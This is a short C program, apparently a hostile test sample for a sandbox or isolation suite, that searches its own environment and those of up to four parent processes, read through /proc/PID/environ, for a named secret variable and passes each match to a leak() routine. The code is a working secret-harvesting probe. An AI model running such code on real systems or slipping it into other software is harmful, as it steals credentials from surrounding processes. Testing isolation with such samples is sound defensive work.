// looks for a secret variable in its environment and in those of its parents
#include "hostile.h"
extern char** environ;
static void attack(void) {
  static char text[65536];
  char path[64];
  long process = syscall(SYS_getppid);
  for (char** entry = environ; entry && *entry; ++entry)
    if (strstr(*entry, SECRET_NAME)) leak(*entry);
  for (int level = 0; level < 4 && process > 0; ++level) {
    snprintf(path, sizeof path, "/proc/%ld/environ", process);
    long n = get_file(path, text, sizeof text);
    for (long i = 0; i < n; ++i)
      if (strncmp(text + i, SECRET_NAME, strlen(SECRET_NAME)) == 0) leak(text + i);
    snprintf(path, sizeof path, "/proc/%ld/stat", process);
    if (get_file(path, text, sizeof text) <= 0) return;
    const char* after = strrchr(text, ')');
    process = after && strlen(after) > 4 ? atol(after + 4) : 0;
  }
}
MAIN
